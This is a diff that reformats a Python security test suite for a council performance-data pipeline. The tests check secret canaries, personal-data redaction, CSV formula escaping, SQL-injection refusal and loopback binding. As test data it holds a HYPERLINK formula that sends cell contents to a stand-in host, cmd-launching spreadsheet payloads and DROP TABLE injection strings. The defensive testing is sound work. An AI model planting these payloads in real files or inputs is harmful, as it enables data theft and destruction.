@@ -54,7 +54,9 @@ def text_of_file(path: Path) -> str:
 
 def dump_database(path: Path) -> str:
     with duckdb.connect(str(path), read_only=True) as connection:
-        names = connection.execute("SELECT table_schema, table_name FROM information_schema.tables ORDER BY ALL").fetchall()
+        names = connection.execute(
+            "SELECT table_schema, table_name FROM information_schema.tables ORDER BY ALL"
+        ).fetchall()
         return "\n".join(repr(connection.execute(f'SELECT * FROM "{s}"."{t}"').fetchall()) for s, t in names)
 
 
@@ -64,8 +66,10 @@ def plant_complaint(inbox: Path) -> None:
     reader = csv.DictReader(io.StringIO(source.read_text(encoding="utf-8")))
     row = next(reader)
     row["Case Ref"] = COMPLAINT_ID
-    row["Summary"] = (f"My name is Zenobia Quarrington. {PII['name']} wrote again; email {PII['email']}, "
-                      f"phone {PII['phone']}, NI number {PII['ni_number']}, postcode {PII['postcode']}.")
+    row["Summary"] = (
+        f"My name is Zenobia Quarrington. {PII['name']} wrote again; email {PII['email']}, "
+        f"phone {PII['phone']}, NI number {PII['ni_number']}, postcode {PII['postcode']}."
+    )
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=reader.fieldnames, lineterminator="\n")
     writer.writeheader()
@@ -78,8 +82,8 @@ def canary_runs(tmp_path_factory):
     """A refresh_all and the quality report against a demo API that only accepts the canary
     credentials, with a planted personal-data complaint; then a refresh_all whose secret the API
     refuses (401). Everything a run leaves behind is collected."""
-    from demo.synthetic_inbox import write_demo_inbox
     from demo.server import DemoServer
+    from demo.synthetic_inbox import write_demo_inbox
     from orchestration.definitions import build_definitions
 
     folder = tmp_path_factory.mktemp("canary")
@@ -98,19 +102,41 @@ def canary_runs(tmp_path_factory):
     os.dup2(fd_file.fileno(), 2)
     try:
         with contextlib.redirect_stdout(streams), contextlib.redirect_stderr(streams):
-            with pytest.MonkeyPatch.context() as monkeypatch, DemoServer(application_key=CANARY_KEY, secret=CANARY_SECRET) as server:
-                env = point_environment(monkeypatch, folder, LGINFORM_BASE_URL=server.url,
-                                        LGINFORM_APPLICATION_KEY=CANARY_KEY, LGINFORM_SECRET=CANARY_SECRET)
+            with (
+                pytest.MonkeyPatch.context() as monkeypatch,
+                DemoServer(application_key=CANARY_KEY, secret=CANARY_SECRET) as server,
+            ):
+                env = point_environment(
+                    monkeypatch,
+                    folder,
+                    LGINFORM_BASE_URL=server.url,
+                    LGINFORM_APPLICATION_KEY=CANARY_KEY,
+                    LGINFORM_SECRET=CANARY_SECRET,
+                )
                 write_demo_inbox(env.inbox_dir)
                 plant_complaint(env.inbox_dir)
                 defs = build_definitions(env)
                 good = defs.resolve_job_def("refresh_all").execute_in_process(instance=instance, raise_on_error=False)
-                quality = defs.resolve_job_def("quality_report_job").execute_in_process(instance=instance, raise_on_error=False)
-            with pytest.MonkeyPatch.context() as monkeypatch, DemoServer(application_key=CANARY_KEY, secret="the-right-secret") as server:
+                quality = defs.resolve_job_def("quality_report_job").execute_in_process(
+                    instance=instance, raise_on_error=False
+                )
+            with (
+                pytest.MonkeyPatch.context() as monkeypatch,
+                DemoServer(application_key=CANARY_KEY, secret="the-right-secret") as server,
+            ):
                 bad_folder = tmp_path_factory.mktemp("canary-401")
-                env401 = point_environment(monkeypatch, bad_folder, LGINFORM_BASE_URL=server.url,
-                                           LGINFORM_APPLICATION_KEY=CANARY_KEY, LGINFORM_SECRET=CANARY_SECRET)
-                failed = build_definitions(env401).resolve_job_def("refresh_all").execute_in_process(instance=instance, raise_on_error=False)
+                env401 = point_environment(
+                    monkeypatch,
+                    bad_folder,
+                    LGINFORM_BASE_URL=server.url,
+                    LGINFORM_APPLICATION_KEY=CANARY_KEY,
+                    LGINFORM_SECRET=CANARY_SECRET,
+                )
+                failed = (
+                    build_definitions(env401)
+                    .resolve_job_def("refresh_all")
+                    .execute_in_process(instance=instance, raise_on_error=False)
+                )
     finally:
         os.dup2(saved[0], 1)
         os.dup2(saved[1], 2)
@@ -120,14 +146,25 @@ def canary_runs(tmp_path_factory):
     fd_file.seek(0)
     captured += [handler_stream.getvalue(), streams.getvalue(), fd_file.read().decode("utf-8", errors="replace")]
     assert len(captured[1]) > 1000, "the runs' console output was not captured"
-    return {"folder": folder, "bad_folder": bad_folder, "instance": instance, "good": good, "quality": quality,
-            "failed": failed, "logs": "\n".join(captured), "env": env}
+    return {
+        "folder": folder,
+        "bad_folder": bad_folder,
+        "instance": instance,
+        "good": good,
+        "quality": quality,
+        "failed": failed,
+        "logs": "\n".join(captured),
+        "env": env,
+    }
 
 
 def test_the_canary_secret_is_never_logged_stored_or_exported(canary_runs, tried):
-    tried("LGINFORM_SECRET and the application key set to unique canaries; a good run, the quality report, and a run the API refuses (401)",
-          "neither canary in logs, stdout/stderr, Dagster event records, exception messages, audit.api_requests, "
-          "raw.lginform_responses, the warehouse file, dbt's run logs, DAGSTER_HOME or any file under EXPORT_DIR", "security")
+    tried(
+        "LGINFORM_SECRET and the application key set to unique canaries; a good run, the quality report, and a run the API refuses (401)",
+        "neither canary in logs, stdout/stderr, Dagster event records, exception messages, audit.api_requests, "
+        "raw.lginform_responses, the warehouse file, dbt's run logs, DAGSTER_HOME or any file under EXPORT_DIR",
+        "security",
+    )
     runs = canary_runs
     assert runs["good"].success and runs["quality"].success
     assert not runs["failed"].success
@@ -160,25 +197,41 @@ def test_the_canary_secret_is_never_logged_stored_or_exported(canary_runs, tried
 
 
 def test_personal_data_in_complaint_text_never_reaches_an_export(canary_runs, tried):
-    tried("a complaint whose summary holds an email, phone number, NI number, postcode and a titled name",
-          "the row is loaded (summary redacted beside the original in raw); none of the canaries is in any file "
-          "under EXPORT_DIR (CSV, JSON, HTML, Parquet cells, the BI .duckdb, the quality folder, the officers' returns)", "security")
+    tried(
+        "a complaint whose summary holds an email, phone number, NI number, postcode and a titled name",
+        "the row is loaded (summary redacted beside the original in raw); none of the canaries is in any file "
+        "under EXPORT_DIR (CSV, JSON, HTML, Parquet cells, the BI .duckdb, the quality folder, the officers' returns)",
+        "security",
+    )
     folder = canary_runs["folder"]
     with duckdb.connect(str(folder / "warehouse.duckdb"), read_only=True) as connection:
-        redacted = connection.execute("SELECT summary_redacted FROM raw.complaints WHERE complaint_id = ?", [COMPLAINT_ID]).fetchall()
+        redacted = connection.execute(
+            "SELECT summary_redacted FROM raw.complaints WHERE complaint_id = ?", [COMPLAINT_ID]
+        ).fetchall()
     assert len(redacted) == 1, "the planted complaint was not loaded: the case would prove nothing"
     assert not any(needle.lower() in redacted[0][0].lower() for needle in PII_NEEDLES), redacted[0][0]
     exported = [p for p in (folder / "exports").rglob("*") if p.is_file()]
-    assert {p.relative_to(folder / "exports").parts[0] for p in exported} == {"open-data", "bi", "report", "quality", "returns"}
+    assert {p.relative_to(folder / "exports").parts[0] for p in exported} == {
+        "open-data",
+        "bi",
+        "report",
+        "quality",
+        "returns",
+    }
     leaks = [(str(p), n) for p in exported for n in PII_NEEDLES if n.lower() in text_of_file(p).lower()]
     assert leaks == []
 
 
 def test_a_run_against_a_service_carries_no_demonstration_label(canary_runs, tried):
-    tried("a run against an LG Inform service (LGINFORM_BASE_URL set, the demo not asked for)",
-          "no report page, data package, Parquet file or BI table says 'demonstration'", "security")
+    tried(
+        "a run against an LG Inform service (LGINFORM_BASE_URL set, the demo not asked for)",
+        "no report page, data package, Parquet file or BI table says 'demonstration'",
+        "security",
+    )
     folder = canary_runs["folder"] / "exports"
-    exported = [p for p in folder.rglob("*") if p.is_file() and p.parts[len(folder.parts)] in ("open-data", "bi", "report")]
+    exported = [
+        p for p in folder.rglob("*") if p.is_file() and p.parts[len(folder.parts)] in ("open-data", "bi", "report")
+    ]
     assert len(exported) > 10
     marked = [str(p) for p in exported if "demonstration" in text_of_file(p).lower()]
     assert marked == []
@@ -187,13 +240,21 @@ def test_a_run_against_a_service_carries_no_demonstration_label(canary_runs, tri
 
 
 CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
 
 
 def test_formula_text_is_neutralised_in_every_csv_export(demo_baseline, tmp_path, tried):
-    tried("=HYPERLINK, +, - and @ formulas planted in the scorecard's title, commentary and narrative and in complaint service "
-          "and theme labels, then the open-data export and a failing-rows CSV written",
-          "every CSV cell that starts with = + - @ tab or CR is a plain number or starts with an apostrophe", "security")
+    tried(
+        "=HYPERLINK, +, - and @ formulas planted in the scorecard's title, commentary and narrative and in complaint service "
+        "and theme labels, then the open-data export and a failing-rows CSV written",
+        "every CSV cell that starts with = + - @ tab or CR is a plain number or starts with an apostrophe",
+        "security",
+    )
     from exports.open_data import write_open_data
     from exports.publish import write_csv
 
@@ -202,10 +263,15 @@ def test_formula_text_is_neutralised_in_every_csv_export(demo_baseline, tmp_path
     with duckdb.connect(str(warehouse)) as connection:
         for column, injection in zip(("title", "commentary", "narrative"), INJECTIONS):
             connection.execute(f"UPDATE marts.indicator_performance SET {column} = ?", [injection])
-        connection.execute("UPDATE marts.complaints_summary SET theme = ? || theme WHERE theme <> 'all'", [INJECTIONS[3]])
+        connection.execute(
+            "UPDATE marts.complaints_summary SET theme = ? || theme WHERE theme <> 'all'", [INJECTIONS[3]]
+        )
         # and in a large resource, which DuckDB writes (exports/sql_cells.py)
-        connection.execute("UPDATE marts.fct_indicator_values SET indicator_id = ? || indicator_id "
-                           "WHERE period_id = (SELECT max(period_id) FROM marts.fct_indicator_values)", [INJECTIONS[0]])
+        connection.execute(
+            "UPDATE marts.fct_indicator_values SET indicator_id = ? || indicator_id "
+            "WHERE period_id = (SELECT max(period_id) FROM marts.fct_indicator_values)",
+            [INJECTIONS[0]],
+        )
         write_open_data(connection, tmp_path / "open-data", disclosure_min_count=5)
     write_csv(tmp_path / "failing.csv", ["value"], [[i] for i in INJECTIONS])
     planted = 0
@@ -222,15 +288,22 @@ def test_formula_text_is_neutralised_in_every_csv_export(demo_baseline, tmp_path
     assert planted >= 4 and written_by_duckdb > 0
 
 
-@pytest.mark.parametrize("key, value", [
-    ("council", "E08000009'; DROP TABLE raw.complaints; --"),
-    ("comparison_groups", ["Trafford\"; DROP TABLE marts.benchmarks; --"]),
-    ("metric_types", ["90005'); DELETE FROM raw.lginform_values; --"]),
-    ("areas", ["E08000009:x'; DROP TABLE raw.lginform_values; --"]),
-    ("areas", ["Trafford_CIPFA'--"]),
-])
+@pytest.mark.parametrize(
+    "key, value",
+    [
+        ("council", "E08000009'; DROP TABLE raw.complaints; --"),
+        ("comparison_groups", ['Trafford"; DROP TABLE marts.benchmarks; --']),
+        ("metric_types", ["90005'); DELETE FROM raw.lginform_values; --"]),
+        ("areas", ["E08000009:x'; DROP TABLE raw.lginform_values; --"]),
+        ("areas", ["Trafford_CIPFA'--"]),
+    ],
+)
 def test_identifiers_with_quotes_in_pipeline_yml_are_refused(tmp_path, key, value, tried):
-    tried(f"pipeline.yml {key} = {value!r}", "refused by validation with a message naming the key; nothing runs", "security")
+    tried(
+        f"pipeline.yml {key} = {value!r}",
+        "refused by validation with a message naming the key; nothing runs",
+        "security",
+    )
     config = small_config()
     if key in config["lginform"]:
         config["lginform"][key] = value
@@ -243,8 +316,11 @@ def test_identifiers_with_quotes_in_pipeline_yml_are_refused(tmp_path, key, valu
 
 
 def test_inbox_file_names_with_quotes_are_handled_safely(demo_baseline, tmp_path, tried):
-    tried("inbox files named with quotes, a semicolon and SQL (o'brien\"; DROP TABLE raw.complaints; --.csv)",
-          "the file is ingested (or refused with a reason) under its exact name; every raw, audit and marts table is intact", "security")
+    tried(
+        "inbox files named with quotes, a semicolon and SQL (o'brien\"; DROP TABLE raw.complaints; --.csv)",
+        "the file is ingested (or refused with a reason) under its exact name; every raw, audit and marts table is intact",
+        "security",
+    )
     from ingestion.inbox_folder import ingest_folder
     from ingestion.layouts import load_layouts, load_vocabulary
     from lgperf import warehouse as layout
@@ -252,15 +328,24 @@ def test_inbox_file_names_with_quotes_are_handled_safely(demo_baseline, tmp_path
     shutil.copytree(demo_baseline, tmp_path / "copy")
     folder = tmp_path / "copy"
     name = "o'brien\"; DROP TABLE raw.complaints; --.csv"
-    [source] = (folder / "inbox" / "complaints" / "processed").glob("*_crm_complaints_2024-25.csv")  # taken by the demo run
+    [source] = (folder / "inbox" / "complaints" / "processed").glob(
+        "*_crm_complaints_2024-25.csv"
+    )  # taken by the demo run
     text = source.read_text(encoding="utf-8").replace("CRM-2024-", "CRM-2099-")
     (folder / "inbox" / "complaints" / name).write_text(text, encoding="utf-8")
     config = load_pipeline_config(folder / "pipeline.yml")
     layouts_dir = PROJECT_ROOT / config.inbox.layouts_dir
     with layout.connect(folder / "warehouse.duckdb") as connection:
         before = {t: connection.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in _tables(connection)}
-        outcomes = ingest_folder(connection, folder / "inbox", "complaints", layouts=load_layouts(layouts_dir),
-                                 vocabulary=load_vocabulary(layouts_dir), max_file_bytes=config.inbox.max_file_bytes, run_id="security-test")
+        outcomes = ingest_folder(
+            connection,
+            folder / "inbox",
+            "complaints",
+            layouts=load_layouts(layouts_dir),
+            vocabulary=load_vocabulary(layouts_dir),
+            max_file_bytes=config.inbox.max_file_bytes,
+            run_id="security-test",
+        )
         mine = [o for o in outcomes if o.file_name == name]
         assert len(mine) == 1 and mine[0].status in ("loaded", "refused")
         assert mine[0].status == "loaded" or mine[0].reason
@@ -272,16 +357,29 @@ def test_inbox_file_names_with_quotes_are_handled_safely(demo_baseline, tmp_path
 
 
 def _tables(connection) -> list[str]:
-    return [f"{s}.{t}" for s, t in connection.execute(
-        "SELECT table_schema, table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE' ORDER BY ALL").fetchall()]
+    return [
+        f"{s}.{t}"
+        for s, t in connection.execute(
+            "SELECT table_schema, table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE' ORDER BY ALL"
+        ).fetchall()
+    ]
 
 
 def test_the_dagster_ui_binds_to_loopback(tried):
-    tried("every documented or scripted `dagster dev` / `dagster-webserver` command (Makefile, README, docs, .ci)",
-          "each passes -h/--host 127.0.0.1; none binds 0.0.0.0", "security")
+    tried(
+        "every documented or scripted `dagster dev` / `dagster-webserver` command (Makefile, README, docs, .ci)",
+        "each passes -h/--host 127.0.0.1; none binds 0.0.0.0",
+        "security",
+    )
     found = []
-    candidates = [PROJECT_ROOT / "Makefile", PROJECT_ROOT / "README.md", *PROJECT_ROOT.glob("docs/**/*"),
-                  *PROJECT_ROOT.glob(".ci/*"), *PROJECT_ROOT.glob("*.sh"), *PROJECT_ROOT.glob("*.toml")]
+    candidates = [
+        PROJECT_ROOT / "Makefile",
+        PROJECT_ROOT / "README.md",
+        *PROJECT_ROOT.glob("docs/**/*"),
+        *PROJECT_ROOT.glob(".ci/*"),
+        *PROJECT_ROOT.glob("*.sh"),
+        *PROJECT_ROOT.glob("*.toml"),
+    ]
     for path in candidates:
         if not path.is_file():
             continue
@@ -289,14 +387,19 @@ def test_the_dagster_ui_binds_to_loopback(tried):
         # the generated reliability table (docs/reliability.md) quotes this very case ("none binds 0.0.0.0")
         text = re.sub(r"<!-- reliability:start -->.*?<!-- reliability:end -->", "", text, flags=re.S)
         for line in text.splitlines():
-            if re.search(r"\bdagster(-webserver|\s+dev)\b", line) and not line.lstrip().startswith("#") and "/bin/dagster" in line or \
-                    re.search(r"^\s*(\$\(BIN\)/)?dagster(-webserver|\s+dev)\b", line):
+            if (
+                re.search(r"\bdagster(-webserver|\s+dev)\b", line)
+                and not line.lstrip().startswith("#")
+                and "/bin/dagster" in line
+                or re.search(r"^\s*(\$\(BIN\)/)?dagster(-webserver|\s+dev)\b", line)
+            ):
                 found.append((path.name, line))
                 assert re.search(r"(-h|--host)\s+127\.0\.0\.1\b", line), f"{path}: {line}"
             assert "0.0.0.0" not in line or "dagster" not in line, f"{path}: {line}"
     # `make dev` starts the UI through `lgperf ui`, which builds the `dagster dev` command itself
     assert "\t$(BIN)/lgperf ui\n" in (PROJECT_ROOT / "Makefile").read_text(encoding="utf-8")
     from orchestration.cli import build_parser, dagster_command
+
     command = dagster_command()
     assert command[1:3] == ["dev", "-m"] and command[command.index("-h") + 1] == "127.0.0.1", command
     assert build_parser().parse_args(["ui"]).host == "127.0.0.1"
